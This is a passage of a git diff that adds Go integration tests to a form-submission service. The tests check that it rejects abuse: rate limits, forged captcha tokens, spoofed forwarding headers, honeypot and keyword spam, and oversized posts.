@@ -1,10 +1,13 @@
 package application_test
 
 import (
+	"bytes"
 	"context"
 	"encoding/base64"
+	"encoding/csv"
 	"fmt"
 	"net/http"
+	"strings"
 	"sync"
 	"time"
 
@@ -13,7 +16,10 @@ import (
 	"github.com/jarcoal/httpmock"
 	app "github.com/sevaho/goforms/src"
 	"github.com/sevaho/goforms/src/config"
+	"github.com/sevaho/goforms/src/db/memory"
+	"github.com/sevaho/goforms/src/db/sqlite"
 	"github.com/tidwall/gjson"
+	"github.com/xuri/excelize/v2"
 
 	. "github.com/onsi/ginkgo/v2"
 	. "github.com/onsi/gomega"
@@ -25,6 +31,12 @@ var testApp = fmt.Sprintf("http://localhost:%d", port)
 
 var formWithMailerSendID = uuid.NewString()
 var formWithFakeBackendSendID = uuid.NewString()
+var formWithRateLimitID = uuid.NewString()
+var formWithTurnstileID = uuid.NewString()
+var formWithRecaptchaV3ID = uuid.NewString()
+var formWithProofOfWorkID = uuid.NewString()
+var formWithFastRefillID = uuid.NewString()
+var formKeptForeverID = uuid.NewString()
 
 var formsconfig = []byte(`
 forms:
@@ -39,9 +51,104 @@ forms:
     - email: ttcteneramonda@outlook.com
       name: TTC Teneramonda website
   - id: "` + formWithFakeBackendSendID + `"
+    slug: contact-fake
     provider: fake
+    searchable: [name]
     name: Contact TTC Teneramonda
     subject: Contact formulier website TTC Teneramonda
+    spam:
+      rules:
+      - type: keywords
+        values: [casino]
+    fields:
+    - name: email
+      type: email
+      required: true
+      labels:
+        nl: E-mailadres
+    - name: message
+      type: textarea
+    sender:
+      email: noreply@ttcteneramonda.be
+      name: TTC Teneramonda website
+    recipients:
+    - email: ttcteneramonda@outlook.com
+      name: TTC Teneramonda website
+  - id: "` + formWithRateLimitID + `"
+    provider: fake
+    skipcaptcha: true
+    name: Contact TTC Teneramonda
+    subject: Contact formulier website TTC Teneramonda
+    ratelimit:
+      burst: 1
+      perminute: 1
+    sender:
+      email: noreply@ttcteneramonda.be
+      name: TTC Teneramonda website
+    recipients:
+    - email: ttcteneramonda@outlook.com
+      name: TTC Teneramonda website
+  - id: "` + formWithFastRefillID + `"
+    provider: fake
+    skipcaptcha: true
+    name: Contact TTC Teneramonda
+    subject: Contact formulier website TTC Teneramonda
+    ratelimit:
+      burst: 1
+      perminute: 600
+    sender:
+      email: noreply@ttcteneramonda.be
+      name: TTC Teneramonda website
+    recipients:
+    - email: ttcteneramonda@outlook.com
+      name: TTC Teneramonda website
+  - id: "` + formKeptForeverID + `"
+    provider: fake
+    skipcaptcha: true
+    retention: 0s
+    name: Contact TTC Teneramonda
+    subject: Contact formulier website TTC Teneramonda
+    sender:
+      email: noreply@ttcteneramonda.be
+      name: TTC Teneramonda website
+    recipients:
+    - email: ttcteneramonda@outlook.com
+      name: TTC Teneramonda website
+  - id: "` + formWithTurnstileID + `"
+    provider: fake
+    name: Contact TTC Teneramonda
+    subject: Contact formulier website TTC Teneramonda
+    captcha:
+      provider: turnstile
+      sitekey: turnstile-sitekey
+      secret: turnstile-secret
+    sender:
+      email: noreply@ttcteneramonda.be
+      name: TTC Teneramonda website
+    recipients:
+    - email: ttcteneramonda@outlook.com
+      name: TTC Teneramonda website
+  - id: "` + formWithRecaptchaV3ID + `"
+    provider: fake
+    name: Contact TTC Teneramonda
+    subject: Contact formulier website TTC Teneramonda
+    captcha:
+      minscore: 0.5
+      action: contact
+      hostnames: [ttcteneramonda.be]
+    sender:
+      email: noreply@ttcteneramonda.be
+      name: TTC Teneramonda website
+    recipients:
+    - email: ttcteneramonda@outlook.com
+      name: TTC Teneramonda website
+  - id: "` + formWithProofOfWorkID + `"
+    provider: fake
+    name: Contact TTC Teneramonda
+    subject: Contact formulier website TTC Teneramonda
+    captcha:
+      provider: pow
+      difficulty: 4
     sender:
       email: noreply@ttcteneramonda.be
       name: TTC Teneramonda website
@@ -62,6 +169,9 @@ var _ = Context("Application", func() {
 		env.FORMS_CONFIG_BASE64 = base64.StdEncoding.EncodeToString(formsconfig)
 		env.LOG_LEVEL = 4
 		env.IS_DEVELOPMENT = false // Force use of embedded templates for tests
+		if sqlite.IsDSN(env.DB_DSN) {
+			env.DB_DSN = newSQLiteDatabase()
+		}
 
 		// setup application
 		ctx, cancel = context.WithCancel(context.Background())
@@ -227,4 +337,1005 @@ var _ = Context("Application", func() {
 			Expect(res.String()).To(ContainSubstring("Terug naar website"))
 		})
 	})
+
+	When("Doing more form inquiries than the rate limit allows", func() {
+		It("should respond with too many requests", func() {
+			// given
+			var formData = map[string]string{"name": "John Doe", "age": "30"}
+
+			// when
+			first, err := client.R().SetFormData(formData).Post(testApp + "/forms/" + formWithRateLimitID)
+			Expect(err).To(BeNil())
+			second, err := client.R().SetFormData(formData).Post(testApp + "/forms/" + formWithRateLimitID)
+			Expect(err).To(BeNil())
+
+			// then
+			Expect(first.StatusCode()).To(Equal(200), first.String())
+			Expect(second.StatusCode()).To(Equal(429), second.String())
+			Expect(second.Header().Get("Retry-After")).To(Equal("60"))
+		})
+
+		It("should ignore the addresses a client adds to X-Forwarded-For", func() {
+			// given
+			var formData = map[string]string{"name": "John Doe", "age": "30"}
+
+			// when
+			first, err := client.R().
+				SetHeader("X-Forwarded-For", "198.51.100.1, 203.0.113.7").
+				SetFormData(formData).
+				Post(testApp + "/forms/" + formWithRateLimitID)
+			Expect(err).To(BeNil())
+			second, err := client.R().
+				SetHeader("X-Forwarded-For", "198.51.100.2, 203.0.113.7").
+				SetFormData(formData).
+				Post(testApp + "/forms/" + formWithRateLimitID)
+			Expect(err).To(BeNil())
+
+			// then
+			Expect(first.StatusCode()).To(Equal(200), first.String())
+			Expect(second.StatusCode()).To(Equal(429), second.String())
+		})
+
+		It("should accept inquiries again once the bucket refilled", func() {
+			// given
+			var formData = map[string]string{"name": "John Doe", "age": "30"}
+
+			// when
+			first, err := client.R().SetFormData(formData).Post(testApp + "/forms/" + formWithFastRefillID)
+			Expect(err).To(BeNil())
+			second, err := client.R().SetFormData(formData).Post(testApp + "/forms/" + formWithFastRefillID)
+			Expect(err).To(BeNil())
+			// 600 per minute refills a token every 100ms
+			time.Sleep(250 * time.Millisecond)
+			third, err := client.R().SetFormData(map[string]string{"name": "John Doe", "age": "31"}).Post(testApp + "/forms/" + formWithFastRefillID)
+			Expect(err).To(BeNil())
+
+			// then
+			Expect(first.StatusCode()).To(Equal(200), first.String())
+			Expect(second.StatusCode()).To(Equal(429), second.String())
+			Expect(third.StatusCode()).To(Equal(200), third.String())
+		})
+	})
+
+	When("Doing a form inquiry from a blocked IP address", func() {
+		It("should refuse the submission", func() {
+			// given
+			var ruleIDs []int64
+			for _, cidr := range []string{"127.0.0.0/8", "::1"} {
+				res, err := client.R().
+					SetHeader("Authorization", "Bearer "+env.API_KEY).
+					SetBody(map[string]string{"cidr": cidr, "action": "block", "ttl": "1h"}).
+					Post(testApp + "/api/blocklist")
+				Expect(err).To(BeNil())
+				Expect(res.StatusCode()).To(Equal(201), res.String())
+				ruleIDs = append(ruleIDs, gjson.Get(res.String(), "ID").Int())
+			}
+			var formData = map[string]string{"name": "John Doe", "age": "30"}
+
+			// when
+			res, err := client.R().SetFormData(formData).Post(testApp + "/forms/" + formWithFakeBackendSendID)
+
+			// then
+			Expect(err).To(BeNil())
+			Expect(res.StatusCode()).To(Equal(403), res.String())
+
+			for _, id := range ruleIDs {
+				res, err := client.R().SetHeader("Authorization", "Bearer "+env.API_KEY).Delete(fmt.Sprintf("%s/api/blocklist/%d", testApp, id))
+				Expect(err).To(BeNil())
+				Expect(res.StatusCode()).To(Equal(204), res.String())
+			}
+		})
+	})
+
+	When("Doing a form inquiry that is spam", func() {
+		JustBeforeEach(func() {
+			mockGoogleRecaptcha(nil)
+
+			var formData = map[string]string{"name": "John Doe", "message": "Best CASINO bonus"}
+			res, err := client.R().SetFormData(formData).Post(testApp + "/forms/" + formWithFakeBackendSendID)
+			Expect(err).To(BeNil())
+			Expect(res.StatusCode()).To(Equal(200), res.String())
+		})
+
+		It("should store it as spam instead of sending it", func() {
+			// when
+			inbox, err := client.R().SetHeader("Authorization", "Bearer "+env.API_KEY).Get(testApp + "/api/mails")
+			Expect(err).To(BeNil())
+			spam, err := client.R().SetHeader("Authorization", "Bearer "+env.API_KEY).SetQueryParam("spam", "true").Get(testApp + "/api/mails")
+			Expect(err).To(BeNil())
+
+			// then
+			Expect(gjson.Get(inbox.String(), "count").Int()).To(Equal(int64(0)), inbox.String())
+			Expect(gjson.Get(spam.String(), "count").Int()).To(Equal(int64(1)), spam.String())
+			Expect(gjson.Get(spam.String(), "items.0.SpamReasons.0").String()).To(Equal("keyword: casino"), spam.String())
+		})
+
+		It("should be releasable", func() {
+			// given
+			spam, err := client.R().SetHeader("Authorization", "Bearer "+env.API_KEY).SetQueryParam("spam", "true").Get(testApp + "/api/mails")
+			Expect(err).To(BeNil())
+			id := gjson.Get(spam.String(), "items.0.ID").Int()
+
+			// when
+			res, err := client.R().SetHeader("Authorization", "Bearer "+env.API_KEY).Post(fmt.Sprintf("%s/api/mails/%d/release", testApp, id))
+
+			// then
+			Expect(err).To(BeNil())
+			Expect(res.StatusCode()).To(Equal(204), res.String())
+			inbox, err := client.R().SetHeader("Authorization", "Bearer "+env.API_KEY).Get(testApp + "/api/mails")
+			Expect(err).To(BeNil())
+			Expect(gjson.Get(inbox.String(), "count").Int()).To(Equal(int64(1)), inbox.String())
+		})
+
+		It("should only be sent once when released concurrently", func() {
+			// given
+			spam, err := client.R().SetHeader("Authorization", "Bearer "+env.API_KEY).SetQueryParam("spam", "true").Get(testApp + "/api/mails")
+			Expect(err).To(BeNil())
+			id := gjson.Get(spam.String(), "items.0.ID").Int()
+
+			// when
+			var wg sync.WaitGroup
+			statuses := make([]int, 5)
+			for i := range statuses {
+				wg.Add(1)
+				go func() {
+					defer GinkgoRecover()
+					defer wg.Done()
+					res, err := client.R().SetHeader("Authorization", "Bearer "+env.API_KEY).Post(fmt.Sprintf("%s/api/mails/%d/release", testApp, id))
+					Expect(err).To(BeNil())
+					statuses[i] = res.StatusCode()
+				}()
+			}
+			wg.Wait()
+
+			// then
+			Expect(statuses).To(ContainElement(204))
+			Expect(statuses).To(HaveEach(BeElementOf(204, 409)))
+			released := 0
+			for _, status := range statuses {
+				if status == 204 {
+					released++
+				}
+			}
+			Expect(released).To(Equal(1), fmt.Sprint(statuses))
+			mail, err := client.R().SetHeader("Authorization", "Bearer "+env.API_KEY).Get(fmt.Sprintf("%s/api/mails/%d", testApp, id))
+			Expect(err).To(BeNil())
+			Expect(gjson.Get(mail.String(), "Success").Bool()).To(BeTrue(), mail.String())
+		})
+	})
+
+	When("Labeling a mail to train the spam classifier", func() {
+		It("should only accept spam or ham", func() {
+			// given
+			mockGoogleRecaptcha(nil)
+			var formData = map[string]string{"name": "John Doe", "age": "30"}
+			_, err := client.R().SetFormData(formData).Post(testApp + "/forms/" + formWithFakeBackendSendID)
+			Expect(err).To(BeNil())
+			inbox, err := client.R().SetHeader("Authorization", "Bearer "+env.API_KEY).Get(testApp + "/api/mails")
+			Expect(err).To(BeNil())
+			id := gjson.Get(inbox.String(), "items.0.ID").Int()
+
+			// when
+			ham, err := client.R().SetHeader("Authorization", "Bearer "+env.API_KEY).SetBody(map[string]string{"label": "ham"}).Post(fmt.Sprintf("%s/api/mails/%d/classify", testApp, id))
+			Expect(err).To(BeNil())
+			invalid, err := client.R().SetHeader("Authorization", "Bearer "+env.API_KEY).SetBody(map[string]string{"label": "eggs"}).Post(fmt.Sprintf("%s/api/mails/%d/classify", testApp, id))
+			Expect(err).To(BeNil())
+
+			// then
+			Expect(ham.StatusCode()).To(Equal(204), ham.String())
+			Expect(invalid.StatusCode()).To(Equal(400), invalid.String())
+			mail, err := client.R().SetHeader("Authorization", "Bearer "+env.API_KEY).Get(fmt.Sprintf("%s/api/mails/%d", testApp, id))
+			Expect(err).To(BeNil())
+			Expect(gjson.Get(mail.String(), "ClassifiedAs").String()).To(Equal("ham"), mail.String())
+		})
+
+		It("should relabel a mail that was labeled before", func() {
+			// given
+			mockGoogleRecaptcha(nil)
+			var formData = map[string]string{"name": "John Doe", "age": "30"}
+			_, err := client.R().SetFormData(formData).Post(testApp + "/forms/" + formWithFakeBackendSendID)
+			Expect(err).To(BeNil())
+			inbox, err := client.R().SetHeader("Authorization", "Bearer "+env.API_KEY).Get(testApp + "/api/mails")
+			Expect(err).To(BeNil())
+			id := gjson.Get(inbox.String(), "items.0.ID").Int()
+
+			// when
+			var statuses []int
+			for _, label := range []string{"ham", "spam", "spam", "ham"} {
+				res, err := client.R().SetHeader("Authorization", "Bearer "+env.API_KEY).SetBody(map[string]string{"label": label}).Post(fmt.Sprintf("%s/api/mails/%d/classify", testApp, id))
+				Expect(err).To(BeNil())
+				statuses = append(statuses, res.StatusCode())
+			}
+
+			// then
+			Expect(statuses).To(Equal([]int{204, 204, 204, 204}))
+			mail, err := client.R().SetHeader("Authorization", "Bearer "+env.API_KEY).Get(fmt.Sprintf("%s/api/mails/%d", testApp, id))
+			Expect(err).To(BeNil())
+			Expect(gjson.Get(mail.String(), "ClassifiedAs").String()).To(Equal("ham"), mail.String())
+		})
+	})
+
+	When("Doing the same form inquiry twice", func() {
+		It("should only send it once and count the duplicate", func() {
+			// given
+			mockGoogleRecaptcha(nil)
+			var formData = map[string]string{"name": "John Doe", "message": "Hello"}
+			var duplicate = map[string]string{"message": " hello ", "name": "john doe"}
+
+			// when
+			first, err := client.R().SetFormData(formData).Post(testApp + "/forms/" + formWithFakeBackendSendID)
+			Expect(err).To(BeNil())
+			second, err := client.R().SetFormData(duplicate).Post(testApp + "/forms/" + formWithFakeBackendSendID)
+			Expect(err).To(BeNil())
+
+			// then
+			Expect(first.StatusCode()).To(Equal(200), first.String())
+			Expect(second.StatusCode()).To(Equal(200), second.String())
+			res, err := client.R().SetHeader("Authorization", "Bearer "+env.API_KEY).Get(testApp + "/api/mails")
+			Expect(err).To(BeNil())
+			Expect(gjson.Get(res.String(), "count").Int()).To(Equal(int64(1)), res.String())
+			Expect(gjson.Get(res.String(), "items.0.Duplicates").Int()).To(Equal(int64(1)), res.String())
+		})
+	})
+
+	When("Retrying an AJAX form inquiry with an Idempotency-Key", func() {
+		It("should return the original result", func() {
+			// given
+			mockGoogleRecaptcha(nil)
+			request := func(message string) *resty.Response {
+				res, err := client.R().
+					SetHeader("Accept", "application/json").
+					SetHeader("Idempotency-Key", "a3f9c3a4").
+					SetFormData(map[string]string{"name": "John Doe", "message": message}).
+					Post(testApp + "/forms/" + formWithFakeBackendSendID)
+				Expect(err).To(BeNil())
+				return res
+			}
+
+			// when
+			first := request("Hello")
+			retry := request("Hello again")
+
+			// then
+			Expect(first.StatusCode()).To(Equal(200), first.String())
+			Expect(gjson.Get(first.String(), "success").Bool()).To(BeTrue(), first.String())
+			Expect(retry.StatusCode()).To(Equal(200), retry.String())
+			Expect(gjson.Get(retry.String(), "success").Bool()).To(BeTrue(), retry.String())
+			res, err := client.R().SetHeader("Authorization", "Bearer "+env.API_KEY).Get(testApp + "/api/mails")
+			Expect(err).To(BeNil())
+			Expect(gjson.Get(res.String(), "count").Int()).To(Equal(int64(1)), res.String())
+		})
+
+		It("should send concurrent retries only once", func() {
+			// given
+			mockGoogleRecaptcha(nil)
+			key := uuid.NewString()
+			name := "Concurrent " + key
+
+			// when
+			var wg sync.WaitGroup
+			statuses := make([]int, 5)
+			for i := range statuses {
+				wg.Add(1)
+				go func() {
+					defer GinkgoRecover()
+					defer wg.Done()
+					res, err := client.R().
+						SetHeader("Accept", "application/json").
+						SetHeader("Idempotency-Key", key).
+						SetFormData(map[string]string{"name": name, "message": fmt.Sprintf("Attempt %d", i)}).
+						Post(testApp + "/forms/" + formWithFakeBackendSendID)
+					Expect(err).To(BeNil())
+					statuses[i] = res.StatusCode()
+				}()
+			}
+			wg.Wait()
+
+			// then
+			for _, status := range statuses {
+				Expect(status).To(BeElementOf(200, 409))
+			}
+			res, err := client.R().SetHeader("Authorization", "Bearer "+env.API_KEY).SetQueryParams(map[string]string{"field": "name", "value": name}).Get(testApp + "/api/mails")
+			Expect(err).To(BeNil())
+			Expect(gjson.Get(res.String(), "count").Int()).To(Equal(int64(1)), res.String())
+		})
+
+		It("should not let a retry skip the captcha", func() {
+			// given
+			mockTurnstile(nil)
+			key := uuid.NewString()
+			request := func(token string) *resty.Response {
+				res, err := client.R().
+					SetHeader("Accept", "application/json").
+					SetHeader("Idempotency-Key", key).
+					SetFormData(map[string]string{"name": "John Doe", "cf-turnstile-response": token}).
+					Post(testApp + "/forms/" + formWithTurnstileID)
+				Expect(err).To(BeNil())
+				return res
+			}
+
+			// when
+			first := request("valid-token")
+			replay := request("forged-token")
+
+			// then
+			Expect(first.StatusCode()).To(Equal(200), first.String())
+			Expect(replay.StatusCode()).To(Equal(500), replay.String())
+		})
+
+		It("should not hand out the error of the mail provider to a retry", func() {
+			// given
+			mockGoogleRecaptcha(nil)
+			mockTelegram()
+			httpmock.RegisterResponder("POST", "https://api.mailersend.com/v1/email", httpmock.NewStringResponder(500, "internal provider detail"))
+			key := uuid.NewString()
+			request := func() *resty.Response {
+				res, err := client.R().
+					SetHeader("Accept", "application/json").
+					SetHeader("Idempotency-Key", key).
+					SetFormData(map[string]string{"name": "John Doe"}).
+					Post(testApp + "/forms/" + formWithMailerSendID)
+				Expect(err).To(BeNil())
+				return res
+			}
+
+			// when
+			first := request()
+			retry := request()
+
+			// then
+			Expect(first.StatusCode()).To(Equal(500), first.String())
+			Expect(retry.StatusCode()).To(Equal(500), retry.String())
+			Expect(gjson.Get(retry.String(), "error").String()).To(Equal("Your submission could not be sent."), retry.String())
+		})
+	})
+
+	When("Fetching the hosted page of a form", func() {
+		It("should render the fields of the form", func() {
+			// when
+			res, err := client.R().SetQueryParam("language", "NL").Get(testApp + "/forms/" + formWithFakeBackendSendID)
+
+			// then
+			Expect(err).To(BeNil())
+			Expect(res.StatusCode()).To(Equal(200), res.String())
+			Expect(res.String()).To(ContainSubstring(`type="email" name="email"`))
+			Expect(res.String()).To(ContainSubstring("E-mailadres"))
+			Expect(res.String()).To(ContainSubstring(`<textarea id="field-message"`))
+			Expect(res.String()).To(ContainSubstring(`name="_gotcha"`))
+		})
+
+		It("should return 404 for a form without fields", func() {
+			// when
+			res, err := client.R().Get(testApp + "/forms/" + formWithMailerSendID)
+
+			// then
+			Expect(err).To(BeNil())
+			Expect(res.StatusCode()).To(Equal(404), res.String())
+		})
+	})
+
+	When("Doing a form inquiry with the honeypot filled in", func() {
+		It("should store it as spam", func() {
+			// given
+			mockGoogleRecaptcha(nil)
+			var formData = map[string]string{"name": "John Doe", "_gotcha": "http://spam.example"}
+
+			// when
+			res, err := client.R().SetFormData(formData).Post(testApp + "/forms/" + formWithFakeBackendSendID)
+
+			// then
+			Expect(err).To(BeNil())
+			Expect(res.StatusCode()).To(Equal(200), res.String())
+			spam, err := client.R().SetHeader("Authorization", "Bearer "+env.API_KEY).SetQueryParam("spam", "true").Get(testApp + "/api/mails")
+			Expect(err).To(BeNil())
+			Expect(gjson.Get(spam.String(), "items.0.SpamReasons.0").String()).To(Equal("honeypot"), spam.String())
+		})
+	})
+
+	When("Fetching the embeddable snippet of a form", func() {
+		It("should post to the form with the language in hidden fields", func() {
+			// when
+			res, err := client.R().SetQueryParam("language", "EN").Get(testApp + "/forms/" + formWithFakeBackendSendID + "/snippet.html")
+
+			// then
+			Expect(err).To(BeNil())
+			Expect(res.StatusCode()).To(Equal(200), res.String())
+			// the form has a slug, it is posted to by its slug
+			Expect(res.String()).To(ContainSubstring(`action="` + testApp + "/forms/contact-fake"))
+			Expect(res.String()).To(ContainSubstring(`name="_language" value="EN"`))
+			Expect(res.String()).To(ContainSubstring("/static/js/goforms.js"))
+		})
+
+		It("should serve the widget as javascript", func() {
+			// when
+			res, err := client.R().Get(testApp + "/forms/" + formWithFakeBackendSendID + "/embed.js")
+
+			// then
+			Expect(err).To(BeNil())
+			Expect(res.StatusCode()).To(Equal(200), res.String())
+			Expect(res.Header().Get("Content-Type")).To(ContainSubstring("application/javascript"))
+		})
+	})
+
+	When("Doing a form inquiry by slug", func() {
+		It("should be the same form as the UUID", func() {
+			// given
+			mockGoogleRecaptcha(nil)
+			var formData = map[string]string{"name": "John Doe", "age": "30"}
+
+			// when
+			res, err := client.R().SetFormData(formData).Post(testApp + "/forms/contact-fake")
+
+			// then
+			Expect(err).To(BeNil())
+			Expect(res.StatusCode()).To(Equal(200), res.String())
+			mails, err := client.R().SetHeader("Authorization", "Bearer "+env.API_KEY).Get(testApp + "/api/mails")
+			Expect(err).To(BeNil())
+			Expect(gjson.Get(mails.String(), "items.0.FormID").String()).To(Equal(formWithFakeBackendSendID), mails.String())
+		})
+
+		It("should return 404 for an unknown form", func() {
+			// when
+			res, err := client.R().SetFormData(map[string]string{"name": "John Doe"}).Post(testApp + "/forms/does-not-exist")
+
+			// then
+			Expect(err).To(BeNil())
+			Expect(res.StatusCode()).To(Equal(404), res.String())
+		})
+	})
+
+	When("Doing a form inquiry to a form with Turnstile", func() {
+		It("should verify the Turnstile response", func() {
+			// given
+			var captures []http.Request
+			mockTurnstile(&captures)
+
+			// when
+			valid, err := client.R().SetFormData(map[string]string{"name": "John Doe", "cf-turnstile-response": "valid-token"}).Post(testApp + "/forms/" + formWithTurnstileID)
+			Expect(err).To(BeNil())
+			invalid, err := client.R().SetFormData(map[string]string{"name": "Jane Doe", "cf-turnstile-response": "forged"}).Post(testApp + "/forms/" + formWithTurnstileID)
+			Expect(err).To(BeNil())
+
+			// then
+			Expect(valid.StatusCode()).To(Equal(200), valid.String())
+			Expect(invalid.StatusCode()).To(Equal(500), invalid.String())
+			Expect(captures).To(HaveLen(2))
+		})
+
+		It("should not expose the captcha secret", func() {
+			// when
+			res, err := client.R().SetHeader("Authorization", "Bearer "+env.API_KEY).Get(testApp + "/api/config")
+
+			// then
+			Expect(err).To(BeNil())
+			Expect(res.String()).ToNot(ContainSubstring("turnstile-secret"))
+		})
+	})
+
+	When("Doing a form inquiry to a form with reCAPTCHA v3", func() {
+		post := func(name string) *resty.Response {
+			res, err := client.R().SetFormData(map[string]string{"name": name, "g-recaptcha-response": "token"}).Post(testApp + "/forms/" + formWithRecaptchaV3ID)
+			Expect(err).To(BeNil())
+			return res
+		}
+
+		It("should store the score of a response that passes", func() {
+			// given
+			mockGoogleRecaptchaV3(0.9, "contact", "ttcteneramonda.be")
+
+			// when
+			res := post("John Doe")
+
+			// then
+			Expect(res.StatusCode()).To(Equal(200), res.String())
+			mails, err := client.R().SetHeader("Authorization", "Bearer "+env.API_KEY).Get(testApp + "/api/mails")
+			Expect(err).To(BeNil())
+			Expect(gjson.Get(mails.String(), "items.0.CaptchaScore").Float()).To(Equal(0.9), mails.String())
+		})
+
+		It("should reject a low score, no score, another action or another hostname", func() {
+			mockGoogleRecaptchaV3(0.1, "contact", "ttcteneramonda.be")
+			Expect(post("John Doe").StatusCode()).To(Equal(500))
+
+			mockGoogleRecaptcha(nil)
+			Expect(post("Joe Doe").StatusCode()).To(Equal(500))
+
+			mockGoogleRecaptchaV3(0.9, "login", "ttcteneramonda.be")
+			Expect(post("Jane Doe").StatusCode()).To(Equal(500))
+
+			mockGoogleRecaptchaV3(0.9, "contact", "evil.example")
+			Expect(post("Jim Doe").StatusCode()).To(Equal(500))
+		})
+	})
+
+	When("Doing a form inquiry to a form with the proof-of-work captcha", func() {
+		It("should accept a solved challenge once", func() {
+			// given
+			res, err := client.R().SetQueryParam("form", formWithProofOfWorkID).Get(testApp + "/captcha/challenge")
+			Expect(err).To(BeNil())
+			Expect(res.StatusCode()).To(Equal(200), res.String())
+			response := solveProofOfWork(gjson.Get(res.String(), "challenge").String(), int(gjson.Get(res.String(), "difficulty").Int()))
+			var formData = map[string]string{"name": "John Doe", "pow-captcha-response": response}
+
+			// when
+			first, err := client.R().SetFormData(formData).Post(testApp + "/forms/" + formWithProofOfWorkID)
+			Expect(err).To(BeNil())
+			formData["name"] = "Jane Doe"
+			replay, err := client.R().SetFormData(formData).Post(testApp + "/forms/" + formWithProofOfWorkID)
+			Expect(err).To(BeNil())
+
+			// then
+			Expect(first.StatusCode()).To(Equal(200), first.String())
+			Expect(replay.StatusCode()).To(Equal(500), replay.String())
+		})
+
+		It("should refuse an unsolved challenge", func() {
+			// when
+			res, err := client.R().SetFormData(map[string]string{"name": "John Doe", "pow-captcha-response": "forged:1"}).Post(testApp + "/forms/" + formWithProofOfWorkID)
+
+			// then
+			Expect(err).To(BeNil())
+			Expect(res.StatusCode()).To(Equal(500), res.String())
+		})
+	})
+
+	When("Doing a form inquiry", func() {
+		It("should keep the fields in the order they were posted", func() {
+			// given
+			mockGoogleRecaptcha(nil)
+
+			// when
+			res, err := client.R().
+				SetHeader("Content-Type", "application/x-www-form-urlencoded").
+				SetBody("name=John+Doe&email=john%40example.com&message=Hello").
+				Post(testApp + "/forms/" + formWithFakeBackendSendID)
+			Expect(err).To(BeNil())
+			Expect(res.StatusCode()).To(Equal(200), res.String())
+
+			// then
+			mails, err := client.R().SetHeader("Authorization", "Bearer "+env.API_KEY).Get(testApp + "/api/mails")
+			Expect(err).To(BeNil())
+			mail, err := client.R().SetHeader("Authorization", "Bearer "+env.API_KEY).Get(fmt.Sprintf("%s/api/mails/%d", testApp, gjson.Get(mails.String(), "items.0.ID").Int()))
+			Expect(err).To(BeNil())
+			Expect(gjson.Get(mail.String(), "MailFrom").String()).To(Equal("noreply@ttcteneramonda.be"), mail.String())
+			Expect(gjson.Get(mail.String(), "Content").String()).To(ContainSubstring("john@example.com"), mail.String())
+			Expect(gjson.Get(mail.String(), "Fields.#.Name").String()).To(Equal(`["name","email","message"]`), mail.String())
+
+			submission, err := client.R().SetHeader("Authorization", "Bearer "+env.API_KEY).Get(fmt.Sprintf("%s/api/submissions/%d", testApp, gjson.Get(mail.String(), "SubmissionID").Int()))
+			Expect(err).To(BeNil())
+			Expect(submission.StatusCode()).To(Equal(200), submission.String())
+			Expect(gjson.Get(submission.String(), "Fields.1.Value").String()).To(Equal("john@example.com"), submission.String())
+			Expect(gjson.Get(submission.String(), "MailIDs.0").Int()).To(Equal(gjson.Get(mail.String(), "ID").Int()), submission.String())
+		})
+
+		It("should keep the order of a multipart post and leave out the files", func() {
+			// given
+			mockGoogleRecaptcha(nil)
+			name := "Multipart " + uuid.NewString()
+			body := "--boundary\r\n" +
+				"Content-Disposition: form-data; name=\"name\"\r\n\r\n" + name + "\r\n" +
+				"--boundary\r\n" +
+				"Content-Disposition: form-data; name=\"cv\"; filename=\"cv.pdf\"\r\n" +
+				"Content-Type: application/pdf\r\n\r\n%PDF-1.4\r\n" +
+				"--boundary\r\n" +
+				"Content-Disposition: form-data; name=\"email\"\r\n\r\njohn@example.com\r\n" +
+				"--boundary--\r\n"
+
+			// when
+			res, err := client.R().
+				SetHeader("Content-Type", "multipart/form-data; boundary=boundary").
+				SetBody(body).
+				Post(testApp + "/forms/" + formWithFakeBackendSendID)
+			Expect(err).To(BeNil())
+			Expect(res.StatusCode()).To(Equal(200), res.String())
+
+			// then
+			mails, err := client.R().SetHeader("Authorization", "Bearer "+env.API_KEY).SetQueryParams(map[string]string{"field": "name", "value": name}).Get(testApp + "/api/mails")
+			Expect(err).To(BeNil())
+			mail, err := client.R().SetHeader("Authorization", "Bearer "+env.API_KEY).Get(fmt.Sprintf("%s/api/mails/%d", testApp, gjson.Get(mails.String(), "items.0.ID").Int()))
+			Expect(err).To(BeNil())
+			Expect(gjson.Get(mail.String(), "Fields.#.Name").String()).To(Equal(`["name","email"]`), mail.String())
+		})
+
+		It("should refuse a post larger than the limit", func() {
+			// when
+			res, err := client.R().
+				SetFormData(map[string]string{"name": "John Doe", "message": strings.Repeat("a", 2<<20)}).
+				Post(testApp + "/forms/" + formWithFakeBackendSendID)
+
+			// then
+			Expect(err).To(BeNil())
+			Expect(res.StatusCode()).To(Equal(413), res.String())
+		})
+	})
+
+	When("Doing a form inquiry from a browser", func() {
+		It("should keep the metadata the privacy settings allow", func() {
+			// given
+			mockGoogleRecaptcha(nil)
+
+			// when
+			res, err := client.R().
+				SetHeader("X-Forwarded-For", "203.0.113.7").
+				SetHeader("User-Agent", "Mozilla/5.0 (goforms test)").
+				SetHeader("Origin", "https://www.ttcteneramonda.be").
+				SetQueryParam("language", "EN").
+				SetFormData(map[string]string{"name": "John Doe"}).
+				Post(testApp + "/forms/" + formWithFakeBackendSendID)
+			Expect(err).To(BeNil())
+			Expect(res.StatusCode()).To(Equal(200), res.String())
+
+			// then
+			mails, err := client.R().SetHeader("Authorization", "Bearer "+env.API_KEY).Get(testApp + "/api/mails")
+			Expect(err).To(BeNil())
+			mail, err := client.R().SetHeader("Authorization", "Bearer "+env.API_KEY).Get(fmt.Sprintf("%s/api/mails/%d", testApp, gjson.Get(mails.String(), "items.0.ID").Int()))
+			Expect(err).To(BeNil())
+			Expect(gjson.Get(mail.String(), "Metadata.IP").String()).To(Equal("203.0.113.0"), mail.String())
+			Expect(gjson.Get(mail.String(), "Metadata.UserAgent").String()).To(Equal("Mozilla/5.0 (goforms test)"), mail.String())
+			Expect(gjson.Get(mail.String(), "Metadata.Origin").String()).To(Equal("www.ttcteneramonda.be"), mail.String())
+			Expect(gjson.Get(mail.String(), "Metadata.Language").String()).To(Equal("EN"), mail.String())
+			Expect(gjson.Get(mail.String(), "Metadata.RequestID").String()).To(Equal(res.Header().Get("X-Request-Id")), mail.String())
+		})
+	})
+
+	When("Doing a form inquiry with made up metadata", func() {
+		It("should drop what does not fit instead of failing the mail", func() {
+			// given
+			mockGoogleRecaptcha(nil)
+
+			// when
+			res, err := client.R().
+				SetHeader("X-Request-Id", strings.Repeat("r", 200)).
